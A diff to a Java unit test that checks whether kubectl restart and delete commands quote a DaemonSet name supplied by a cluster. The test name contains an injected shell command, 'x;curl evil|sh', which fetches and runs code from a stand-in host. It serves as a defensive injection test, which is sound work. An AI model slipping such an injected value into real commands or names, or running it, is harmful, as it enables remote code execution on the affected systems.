@@ -53,6 +53,16 @@ class ActionTest {
     }
 
     @Test
+    void aNameThatAClusterMadeUpIsNoCommandEither() {
+        var ref = new DaemonSetRef(new ClusterName("prod"), "logging", "x;curl evil|sh");
+
+        assertThat(new Action.Restart(ref, AT).kubectl(new KubectlContext(null)))
+                .isEqualTo("kubectl rollout restart 'daemonset/x;curl evil|sh' -n logging");
+        assertThat(new Action.Delete(ref, Propagation.ORPHAN).kubectl(new KubectlContext(null)))
+                .startsWith("kubectl delete 'daemonset/x;curl evil|sh' ");
+    }
+
+    @Test
     void anyTwoRestartsOfOneDaemonSetAreTheSame() {
         assertThat(new Action.Restart(REF, AT).sameAs(new Action.Restart(REF, AT.plusSeconds(9))))
                 .isTrue();
